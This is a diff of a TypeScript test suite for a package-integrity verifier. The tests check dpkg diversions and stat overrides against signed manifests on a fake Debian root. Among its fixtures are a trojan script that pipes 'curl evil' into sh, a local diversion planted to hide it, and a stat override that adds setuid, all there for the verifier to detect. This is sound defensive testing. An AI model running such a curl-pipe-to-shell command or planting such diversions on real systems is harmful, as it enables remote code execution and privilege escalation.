@@ -78,8 +78,8 @@ const FILES: Record<string, [string, number]> = {
   'etc/tool.conf': ['setting = 1\n', 0o644],
   'usr/bin/tool': ['tool binary\n', 0o755],
   'usr/bin/tool-helper': ['tool helper\n', 0o755],
-  // /usr/bin/div is diverted locally (dpkg-divert --local): the package's file lives at div.real,
-  // and the administrator's own wrapper at /usr/bin/div is none of this package's business.
+  // /usr/bin/div is diverted by the package `extra` (its signed manifest declares it): tool's
+  // file lives at div.real, and extra's wrapper at /usr/bin/div is none of tool's business.
   'usr/bin/div.real': ['the real div\n', 0o755],
   'usr/bin/div': ['#!/bin/sh\nexec div.real "$@"\n', 0o755],
   'usr/share/tool/readme': ['read me\n', 0o644],
@@ -87,6 +87,9 @@ const FILES: Record<string, [string, number]> = {
   'usr/share/libdata/b.txt': ['data b\n', 0o644],
   'usr/bin/extra': ['extra binary\n', 0o755],
 };
+
+/** The fake root's diversions file: extra diverts tool's /usr/bin/div. */
+const DIVERSIONS = '/usr/bin/div\n/usr/bin/div.real\nextra\n';
 
 const para = (...lines: string[]): string => lines.join('\n') + '\n\n';
 const md5 = (s: string | Buffer): string => createHash('md5').update(s).digest('hex');
@@ -111,7 +114,7 @@ function writeDpkgDatabase(root: string, packages: FakePackage[]): void {
   fs.mkdirSync(path.join(admin, 'info'), { recursive: true });
   fs.writeFileSync(path.join(admin, 'status'), packages.map(statusParagraph).join(''));
   fs.writeFileSync(path.join(admin, 'info/format'), '1\n');
-  fs.writeFileSync(path.join(admin, 'diversions'), '/usr/bin/div\n/usr/bin/div.real\n:\n');
+  fs.writeFileSync(path.join(admin, 'diversions'), DIVERSIONS);
   for (const p of packages) {
     fs.writeFileSync(path.join(admin, 'info', `${p.name}.list`), ['/.', ...p.paths].join('\n') + '\n');
     const sums = p.paths
@@ -142,8 +145,11 @@ function makeRoot(): string {
   return root;
 }
 
-/** What a generator would record for a package: the entries as they are on disk now. */
-function manifestFor(root: string, p: FakePackage, fingerprint: string): Manifest {
+/**
+ * What a generator would record for a package: the entries as they are on disk now, and for
+ * `extra` its diversion of /usr/bin/div (unless `declareDiversions` is false).
+ */
+function manifestFor(root: string, p: FakePackage, fingerprint: string, declareDiversions = true): Manifest {
   const entries: ManifestEntry[] = [];
   for (const pkgPath of [...p.paths].sort()) {
     // The generator's image has no local diversion: the content is the diverted file's.
@@ -181,6 +187,9 @@ function manifestFor(root: string, p: FakePackage, fingerprint: string): Manifes
       installer: 'apt 2.6.1',
     },
     entries,
+    ...(p.name === 'extra' && declareDiversions
+      ? { diversions: [{ from: '/usr/bin/div', to: '/usr/bin/div.real' }] }
+      : {}),
   };
 }
 
@@ -194,8 +203,14 @@ function manifestPath(dir: string, p: FakePackage): string {
   );
 }
 
-async function publish(dir: string, root: string, p: FakePackage, key: SigningKey): Promise<void> {
-  const signed = await signManifest(manifestFor(root, p, key.fingerprint), key);
+async function publish(
+  dir: string,
+  root: string,
+  p: FakePackage,
+  key: SigningKey,
+  declareDiversions = true,
+): Promise<void> {
+  const signed = await signManifest(manifestFor(root, p, key.fingerprint, declareDiversions), key);
   const file = manifestPath(dir, p);
   fs.mkdirSync(path.dirname(file), { recursive: true });
   fs.writeFileSync(file, signed.bytes);
@@ -295,7 +310,8 @@ describe('verifyMachine on a fake root', () => {
     fs.symlinkSync('/tmp/evil', at('usr/bin/tool-link'));
     // a conffile edited
     fs.writeFileSync(at('etc/tool.conf'), 'setting = 2\n');
-    // the administrator's wrapper at a locally diverted path changes: not this package's file
+    // extra's wrapper at the path extra diverts changes (tool's business only if the diversion
+    // is not backed by extra's verified manifest)
     fs.writeFileSync(at('usr/bin/div'), '#!/bin/sh\necho changed\n');
     // extra: modified on disk, and its manifest re-signed by a key that is not pinned
     fs.writeFileSync(at('usr/bin/extra'), 'evil extra\n');
@@ -318,12 +334,16 @@ describe('verifyMachine on a fake root', () => {
     assert.deepEqual(summarise(report.findings), [
       'bad-signature dpkg',
       'bad-signature extra',
+      // extra's manifest is refused, so nothing signed declares its diversion: tool's file is
+      // checked at /usr/bin/div, where extra's changed wrapper is.
+      'modified tool /usr/bin/div',
       'modified tool /usr/bin/tool',
       'replaced libdata /usr/share/libdata/a.txt',
       'missing tool /usr/share/tool/readme',
       'metadata tool /usr/bin/tool-helper mode',
       'metadata tool /usr/bin/tool-link target',
       'config-modified tool /etc/tool.conf',
+      'diversion extra /usr/bin/div',
       'unverified orphan',
     ]);
     const byClass = (c: string): Finding[] => report.findings.filter((f) => f.class === c);
@@ -341,7 +361,7 @@ describe('verifyMachine on a fake root', () => {
         ['orphan', 'unverified', 'not-in-catalog'],
       ],
     );
-    assert.equal(report.summary.findingsByClass.modified, 1);
+    assert.equal(report.summary.findingsByClass.modified, 2);
     assert.equal(report.summary.badSignature, 2);
     assert.equal(report.summary.unverified, 1);
     assert.equal(exitCodeOf(report), 1 | 2 | 4);
@@ -379,6 +399,148 @@ describe('verifyMachine on a fake root', () => {
     });
     assert.deepEqual(summarise(report.findings), ['bad-signature libdata']);
     assert.match(report.packages[0]?.reason ?? '', /^MANIFEST_MISMATCH: asked for libdata 3.1/);
+  });
+});
+
+describe('verifyMachine: diversions and stat overrides are claims of the machine, judged against signed manifests', () => {
+  let world: Awaited<ReturnType<typeof fakeWorld>>;
+  const at = (p: string): string => path.join(world.root, p);
+  const admin = (f: string): string => at(`var/lib/dpkg/${f}`);
+  const run = (extra: Partial<Parameters<typeof verifyMachine>[0]> = {}): Promise<VerifyReport> =>
+    verifyMachine({
+      root: world.root,
+      keyring: world.keyring,
+      source: new DirectoryManifestSource(world.manifests),
+      jobs: 2,
+      ...extra,
+    });
+  /** Runs `change`, then `check`, then restores the files `change` may touch. */
+  const tampered = async (change: () => void, check: () => Promise<void>): Promise<void> => {
+    const saved = ['usr/bin/div', 'usr/bin/div.real', 'usr/bin/tool', 'var/lib/dpkg/diversions'].map((p) => ({
+      p,
+      bytes: fs.readFileSync(at(p)),
+      mode: fs.statSync(at(p)).mode & 0o7777,
+    }));
+    change();
+    try {
+      await check();
+    } finally {
+      for (const { p, bytes, mode } of saved) {
+        fs.writeFileSync(at(p), bytes);
+        fs.chmodSync(at(p), mode);
+      }
+      fs.rmSync(admin('statoverride'), { force: true });
+      await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key);
+    }
+  };
+  const trojan = '#!/bin/sh\ncurl evil | sh\n';
+
+  before(async () => {
+    world = await fakeWorld();
+  });
+  after(() => {
+    for (const d of [world.root, world.manifests, world.cacheDir])
+      fs.rmSync(d, { recursive: true, force: true });
+  });
+
+  it('a diversion the diverting package declares in its signed manifest is honoured: no finding', async () => {
+    const report = await run();
+    assert.deepEqual(summarise(report.findings), []);
+    assert.equal(exitCodeOf(report), 0);
+  });
+
+  it('a local diversion hiding a trojan: a diversion failure, and the trojan at the original path is modified', async () => {
+    await tampered(
+      () => {
+        fs.writeFileSync(admin('diversions'), '/usr/bin/div\n/usr/bin/div.real\n:\n');
+        fs.writeFileSync(at('usr/bin/div'), trojan);
+      },
+      async () => {
+        const report = await run();
+        assert.deepEqual(summarise(report.findings), [
+          'modified tool /usr/bin/div',
+          'diversion  /usr/bin/div',
+        ]);
+        const d = report.findings.find((f) => f.class === 'diversion');
+        assert.equal(d?.failure, true);
+        assert.match(d?.detail ?? '', /made locally.*not honoured/);
+        assert.equal(exitCodeOf(report) & 1, 1);
+        // The operator's explicit choice: honoured, listed as accepted, not a failure.
+        const accepted = await run({ acceptLocalDiversions: true });
+        assert.deepEqual(summarise(accepted.findings), ['diversion  /usr/bin/div']);
+        assert.equal(accepted.findings[0]?.accepted, true);
+        assert.equal(accepted.findings[0]?.failure, false);
+        assert.equal(exitCodeOf(accepted), 0);
+        assert.match(renderText(accepted), /\(accepted\) diversion of \/usr\/bin\/div/);
+        // Accepting a path works for it alone.
+        const byPath = await run({ acceptDiversions: ['/usr/bin/other'] });
+        assert.equal(exitCodeOf(byPath) & 1, 1);
+      },
+    );
+  });
+
+  it('a diversion by a package whose signed manifest does not declare it is not honoured', async () => {
+    await tampered(
+      () => void 0,
+      async () => {
+        await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key, false);
+        const report = await run();
+        // tool's file is looked at /usr/bin/div, where extra's wrapper is.
+        assert.deepEqual(summarise(report.findings), [
+          'modified tool /usr/bin/div',
+          'diversion extra /usr/bin/div',
+        ]);
+        assert.match(report.findings[1]?.detail ?? '', /whose signed manifest does not declare it/);
+        assert.equal(exitCodeOf(report), 1);
+      },
+    );
+  });
+
+  it('a stat override that adds setuid is a failure, the manifest mode is expected; an allowed path is listed as accepted', async () => {
+    await tampered(
+      () => {
+        fs.writeFileSync(admin('statoverride'), 'root root 4755 /usr/bin/tool\n');
+        fs.chmodSync(at('usr/bin/tool'), 0o4755);
+      },
+      async () => {
+        const report = await run();
+        assert.deepEqual(summarise(report.findings), [
+          'metadata tool /usr/bin/tool mode',
+          'statoverride tool /usr/bin/tool',
+        ]);
+        const o = report.findings.find((f) => f.class === 'statoverride');
+        assert.equal(o?.failure, true);
+        assert.match(o?.detail ?? '', /mode 0755 → 4755.*adds setuid.*not honoured/);
+        assert.equal(exitCodeOf(report), 1);
+        const allowed = await run({ allowStatOverrides: ['/usr/bin/tool'] });
+        assert.deepEqual(summarise(allowed.findings), ['statoverride tool /usr/bin/tool']);
+        assert.equal(allowed.findings[0]?.accepted, true);
+        assert.equal(exitCodeOf(allowed), 0);
+      },
+    );
+  });
+
+  it('a stat override that lowers privilege is expected and listed; one equal to the manifest raises nothing', async () => {
+    await tampered(
+      () => {
+        fs.writeFileSync(admin('statoverride'), 'root root 0750 /usr/bin/tool\n');
+        fs.chmodSync(at('usr/bin/tool'), 0o750);
+      },
+      async () => {
+        const report = await run();
+        assert.deepEqual(summarise(report.findings), ['statoverride tool /usr/bin/tool']);
+        assert.equal(report.findings[0]?.failure, false);
+        assert.equal(exitCodeOf(report), 0);
+        const owner = `#${fs.statSync(at('usr/bin/tool')).uid}`;
+        fs.writeFileSync(
+          admin('statoverride'),
+          `${owner} #${fs.statSync(at('usr/bin/tool')).gid} 0755 /usr/bin/tool\n`,
+        );
+        fs.chmodSync(at('usr/bin/tool'), 0o755);
+        const r2 = await run();
+        assert.deepEqual(summarise(r2.findings), [], JSON.stringify(r2.findings));
+      },
+    );
   });
 });
 
@@ -456,7 +618,8 @@ function catalogOf(fingerprint: string, versions: [string, string, string][]): C
     schema: 'sysattest.catalog',
     schemaVersion: 1,
     platform: 'debian/bookworm/amd64',
-    generatedAt: '2026-11-20T00:00:00Z',
+    // Fresh: a snapshot older than the maximum age (7 days) would be a stale-catalog finding.
+    generatedAt: new Date(Date.now() - 3600_000).toISOString().replace(/\.\d+Z$/, 'Z'),
     provenance: {
       generator: { name: 'test', version: '0' },
       keyFingerprint: fingerprint,
